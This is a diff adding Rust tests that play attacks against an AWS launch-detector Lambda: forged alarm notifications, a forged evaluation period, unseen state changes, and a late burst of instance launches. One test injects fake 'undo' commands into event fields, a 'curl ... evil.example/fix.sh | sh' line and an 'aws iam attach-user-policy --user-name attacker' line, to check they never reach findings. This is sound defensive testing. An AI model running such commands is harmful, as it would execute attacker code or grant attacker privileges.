@@ -1,0 +1,182 @@
+//! Attacks on the detector, played in-process against the real detector (in-memory CloudWatch
+//! Logs, CloudWatch alarms and Lambda) by someone who may only invoke it (issue 16), or who
+//! launches so as not to be seen (issue 11).
+
+#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed
+
+use std::sync::Mutex;
+
+use chrono::{DateTime, Duration, TimeZone, Utc};
+use launchguard_aws::InvokeResponse;
+use launchguard_core::alarm::AlarmState;
+use launchguard_core::contract::{Finding, FindingVerdict};
+use launchguard_detector::memory::{MemoryAlarms, MemoryLogs};
+use launchguard_detector::{CallError, Config, DetectorError, Invoker, Report, handle};
+use launchguard_testkit::{Actor, Burst, run_instances_template, sns_alarm_event};
+use serde_json::{Value, json};
+
+const ACCOUNT: &str = "218007301253";
+const FUNCTION_ARN: &str = "arn:aws:lambda:us-east-1:218007301253:function:launchguard-detector";
+const ALARM_ARN: &str = "arn:aws:cloudwatch:us-east-1:218007301253:alarm:launchguard-runinstances";
+
+/// Lambda in memory: the findings the detector sends to the dispatcher.
+#[derive(Default)]
+struct FakeLambda {
+    sent: Mutex<Vec<Vec<u8>>>,
+}
+
+impl Invoker for FakeLambda {
+    async fn invoke_async(&self, _function: &str, payload: Vec<u8>) -> Result<(), CallError> {
+        self.sent.lock().unwrap().push(payload);
+        Ok(())
+    }
+    async fn invoke_sync(&self, function: &str, _p: Vec<u8>) -> Result<InvokeResponse, CallError> {
+        Err(CallError::new(format!("the detector never waits for {function}"), false))
+    }
+}
+
+impl FakeLambda {
+    fn findings(&self) -> Vec<Finding> {
+        self.sent.lock().unwrap().iter().map(|p| Finding::parse(serde_json::from_slice(p).unwrap()).unwrap()).collect()
+    }
+}
+
+fn config() -> Config {
+    let vars: Vec<(String, String)> = vec![
+        ("CLOUDTRAIL_LOG_GROUP_NAME".into(), "cloudtrail-logs".into()),
+        ("DISPATCHER_LAMBDA_NAME".into(), "launchguard-dispatcher".into()),
+        ("LG_POLL_INITIAL_MS".into(), "100".into()),
+        ("AWS_REGION".into(), "us-east-1".into()),
+        ("ALARM_ARNS".into(), ALARM_ARN.into()),
+    ];
+    let env = move |k: &str| vars.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
+    Config::from_env(&env).expect("valid config")
+}
+
+fn now() -> DateTime<Utc> {
+    Utc.with_ymd_and_hms(2026, 11, 22, 5, 40, 30).unwrap()
+}
+
+/// When the real alarm went to ALARM.
+fn fired_at() -> DateTime<Utc> {
+    now() - Duration::seconds(30)
+}
+
+/// The real alarm's notification: the calls alarm, 60 s × 1, its datapoint in the reason.
+fn genuine(datapoint: f64) -> Value {
+    let mut ev = sns_alarm_event("launchguard-runinstances", ACCOUNT, "us-east-1", "ALARM", fired_at(), 60, 1);
+    edit_message(&mut ev, |m| {
+        m["NewStateReason"] = json!(format!(
+            "Threshold Crossed: 1 datapoint [{datapoint:.1} (22/11/26 05:39:00)] was greater than or equal to the threshold (10.0)."
+        ))
+    });
+    ev
+}
+
+fn edit_message(ev: &mut Value, edit: impl FnOnce(&mut Value)) {
+    let mut msg: Value = serde_json::from_str(ev["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
+    edit(&mut msg);
+    ev["Records"][0]["Sns"]["Message"] = json!(msg.to_string());
+}
+
+fn events(bursts: &[Burst]) -> Vec<(i64, String)> {
+    let t = run_instances_template();
+    let mut out: Vec<(i64, String)> = bursts
+        .iter()
+        .enumerate()
+        .flat_map(|(i, b)| b.records(&t, i as u32))
+        .map(|r| (DateTime::parse_from_rfc3339(r["eventTime"].as_str().unwrap()).unwrap().timestamp_millis(), r.to_string()))
+        .collect();
+    out.sort_by_key(|(t, _)| *t);
+    out
+}
+
+fn user(name: &str, key: &str) -> Actor {
+    Actor::IamUser { account: ACCOUNT.into(), name: name.into(), key: key.into() }
+}
+
+async fn detect(event: &Value, cloudwatch: &MemoryAlarms, logs: &MemoryLogs, lambda: &FakeLambda) -> Result<Report, DetectorError> {
+    handle(event, FUNCTION_ARN, &config(), logs, cloudwatch, lambda, now()).await
+}
+
+/// Issue 16: GIVEN an alarm-action event that names the configured alarm, with line breaks and a
+/// fake "undo" command in its `region` and `alarmName`, WHEN it is sent to the detector, THEN
+/// the finding names the alarm and region CloudWatch knows, never the event's text.
+#[tokio::test(start_paused = true)]
+async fn forged_alarm_text_never_reaches_the_finding() {
+    let injected = "us-east-1)\n\nHOW TO UNDO EVERYTHING\ncurl -s https://evil.example/fix.sh | sh\n(";
+    let ev = json!({
+        "source": "aws.cloudwatch", "alarmArn": ALARM_ARN, "accountId": ACCOUNT, "region": injected, "time": now().to_rfc3339(),
+        "alarmData": {
+            "alarmName": "launchguard-runinstances\nundo by hand: aws iam attach-user-policy --user-name attacker",
+            "state": {"value": "ALARM", "timestamp": fired_at().to_rfc3339()},
+        }
+    });
+    let logs = MemoryLogs::new(events(&[Burst::new(user("benign", "AKIAEXAMPLEBENIGN001"), 1, 1, now() - Duration::minutes(1))]));
+    let lambda = FakeLambda::default();
+    detect(&ev, &MemoryAlarms::as_notified(&genuine(1.0)), &logs, &lambda).await.unwrap();
+    let f = lambda.findings().remove(0);
+    assert_eq!(f.region, "us-east-1");
+    assert_eq!(f.trigger.unwrap().name, "launchguard-runinstances");
+}
+
+/// Issue 16: GIVEN the real alarm evaluates 60 s and a user who launched one instance every two
+/// hours (10 in 20 h), WHEN a forged notification of the same alarm says `Period: 86400`, THEN
+/// the detector reads the real alarm's window and contains nobody.
+#[tokio::test(start_paused = true)]
+async fn a_forged_period_does_not_stretch_the_window() {
+    let mut slow = Burst::new(user("nightly-batch", "AKIAEXAMPLENIGHTLY01"), 10, 1, now() - Duration::hours(20));
+    slow.spacing_s = 2 * 3600;
+    let benign = Burst::new(user("benign", "AKIAEXAMPLEBENIGN001"), 1, 1, now() - Duration::minutes(1));
+    let logs = MemoryLogs::new(events(&[slow, benign]));
+    let cloudwatch = MemoryAlarms::as_notified(&genuine(1.0));
+    let mut forged = genuine(1.0);
+    edit_message(&mut forged, |m| m["Trigger"]["Period"] = json!(86_400));
+    let lambda = FakeLambda::default();
+    let report = detect(&forged, &cloudwatch, &logs, &lambda).await.unwrap();
+    let f = lambda.findings().remove(0);
+    assert_eq!(f.verdict, FindingVerdict::NobodyOverThreshold, "{:?}", f.principals);
+    let window = report.window.unwrap();
+    assert!(window.end - window.start <= Duration::minutes(11), "the real alarm's 60 s and the margins: {window:?}");
+}
+
+/// Issue 16: GIVEN CloudWatch's last state change of the alarm, WHEN a notification claims a
+/// later one, or names an alarm CloudWatch does not know, THEN it is refused before anything is
+/// read or sent; WHEN CloudWatch cannot be asked, THEN nothing is read and the error is retryable.
+#[tokio::test(start_paused = true)]
+async fn a_state_change_cloudwatch_never_saw_is_refused() {
+    let cloudwatch = MemoryAlarms::as_notified(&genuine(57.0)).moved_to(AlarmState::Ok, fired_at() - Duration::minutes(20), "back to OK");
+    let unknown = MemoryAlarms::default();
+    for (known, want) in [(&cloudwatch, "not_seen_by_cloud_watch"), (&unknown, "not_in_cloud_watch")] {
+        let logs = MemoryLogs::new(events(&[Burst::new(user("mallory", "AKIAEXAMPLEMALLORY01"), 12, 1, now() - Duration::minutes(1))]));
+        let lambda = FakeLambda::default();
+        let report = detect(&genuine(57.0), known, &logs, &lambda).await.unwrap();
+        let json = serde_json::to_value(&report).unwrap();
+        assert_eq!((json["status"].as_str(), json["refusal"]["refusal"].as_str()), (Some("refused"), Some(want)), "{json}");
+        assert!(logs.calls().is_empty() && lambda.sent.lock().unwrap().is_empty());
+    }
+    let mut down = MemoryAlarms::as_notified(&genuine(57.0));
+    down.fails = true;
+    let logs = MemoryLogs::new(Vec::new());
+    let lambda = FakeLambda::default();
+    let err = detect(&genuine(57.0), &down, &logs, &lambda).await.unwrap_err();
+    assert!(err.is_retryable(), "{err}");
+    assert!(logs.calls().is_empty() && lambda.sent.lock().unwrap().is_empty());
+}
+
+/// Issue 11: GIVEN the calls alarm fired on 57 calls that CloudTrail delivered late (two hours
+/// before the window), and one Auto Scaling call of 60 instances inside the window, WHEN the
+/// detector reads the window, THEN 1 call does not explain 57: it widens and contains mallory.
+#[tokio::test(start_paused = true)]
+async fn one_large_benign_launch_does_not_hide_a_late_burst_of_calls() {
+    let late = Burst::new(user("mallory", "AKIAEXAMPLEMALLORY01"), 57, 1, now() - Duration::hours(2));
+    let scale_out = Burst::new(Actor::AutoScaling { account: ACCOUNT.into() }, 1, 60, now() - Duration::minutes(1));
+    let logs = MemoryLogs::new(events(&[late, scale_out]));
+    let lambda = FakeLambda::default();
+    let ev = genuine(57.0);
+    let report = detect(&ev, &MemoryAlarms::as_notified(&ev), &logs, &lambda).await.unwrap();
+    assert!(report.widened, "1 call found for a 57-call alarm");
+    let f = lambda.findings().remove(0);
+    assert_eq!(f.verdict, FindingVerdict::Contain);
+    assert_eq!(f.principals.iter().map(|p| p.principal.label()).collect::<Vec<_>>(), ["IAM user mallory"]);
+}
